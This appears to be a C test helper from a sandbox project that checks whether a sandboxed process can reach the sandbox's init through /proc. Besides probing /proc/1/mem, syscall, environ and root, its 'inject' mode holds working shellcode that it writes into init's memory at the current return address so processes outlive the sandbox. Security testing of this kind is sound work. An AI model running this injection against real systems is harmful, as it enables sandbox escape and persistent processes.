/* Attack helper (issue 13, finding 6): under --isolate, reach the sandbox's
 * init (pid 1 inside, not traced).
 *   esc_init mem     try /proc/1/mem (read-write), /proc/1/syscall, /proc/1/environ
 *   esc_init inject  write code at init's return address that clears its
 *                    PR_SET_PDEATHSIG and then pauses forever, make init return
 *                    from wait4 (an orphan exits), print INJECTED and sleep: the
 *                    test then kills jvisor with SIGKILL and looks for survivors.
 *                    It prints BLOCKED and sleeps too when init cannot be reached.
 * mem prints BLOCKED (exit 0) when the kernel refused, ESCAPED (exit 1) otherwise. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static int try_open(const char *path, int flags)
{
	int fd = open(path, flags);
	if (fd < 0) {
		printf("BLOCKED open %s: %s\n", path, strerror(errno));
		return 0;
	}
	char c;
	/* Some /proc files check at read time. */
	if (!(flags & O_RDWR) && read(fd, &c, 1) < 0 && errno != EISDIR) {
		printf("BLOCKED read %s: %s\n", path, strerror(errno));
		close(fd);
		return 0;
	}
	printf("ESCAPED open %s\n", path);
	close(fd);
	return 1;
}

static void attempt(void)
{
	/* prctl(PR_SET_PDEATHSIG, 0); for (;;) pause(); */
	static const unsigned char code[] = {
	    0xb8, 0x9d, 0x00, 0x00, 0x00, /* mov eax, 157 (prctl) */
	    0xbf, 0x01, 0x00, 0x00, 0x00, /* mov edi, 1 (PR_SET_PDEATHSIG) */
	    0x31, 0xf6,			  /* xor esi, esi */
	    0x0f, 0x05,			  /* syscall */
	    0xb8, 0x22, 0x00, 0x00, 0x00, /* mov eax, 34 (pause) */
	    0x0f, 0x05,			  /* syscall */
	    0xeb, 0xf7,			  /* jmp back to mov eax, 34 */
	};
	FILE *f = fopen("/proc/1/syscall", "r");
	char line[512] = "";
	if (!f || !fgets(line, sizeof(line), f)) {
		printf("BLOCKED /proc/1/syscall: %s\n", strerror(errno));
		if (f)
			fclose(f);
		return;
	}
	fclose(f);
	char *last = strrchr(line, ' ');
	if (!last) {
		printf("BLOCKED /proc/1/syscall unparsable: %s\n", line);
		return;
	}
	unsigned long pc = strtoul(last + 1, NULL, 16);
	int fd = open("/proc/1/mem", O_RDWR);
	if (fd < 0) {
		printf("BLOCKED open /proc/1/mem: %s\n", strerror(errno));
		return;
	}
	if (pwrite(fd, code, sizeof(code), (off_t)pc) != (ssize_t)sizeof(code)) {
		printf("BLOCKED write /proc/1/mem: %s\n", strerror(errno));
		close(fd);
		return;
	}
	close(fd);
	/* An orphan that exits makes init's wait4 return into the code. */
	pid_t a = fork();
	if (a == 0) {
		if (fork() == 0) {
			usleep(200000);
			_exit(0);
		}
		_exit(0);
	}
	waitpid(a, NULL, 0);
	usleep(500000);
	printf("INJECTED at %#lx\n", pc);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	const char *mode = argc > 1 ? argv[1] : "mem";
	if (!strcmp(mode, "inject")) {
		attempt();
		for (;;)
			pause();
	}
	int bad = try_open("/proc/1/mem", O_RDWR) + try_open("/proc/1/syscall", O_RDONLY) +
		  try_open("/proc/1/environ", O_RDONLY) + try_open("/proc/1/root/.", O_RDONLY);
	return bad ? 1 : 0;
}
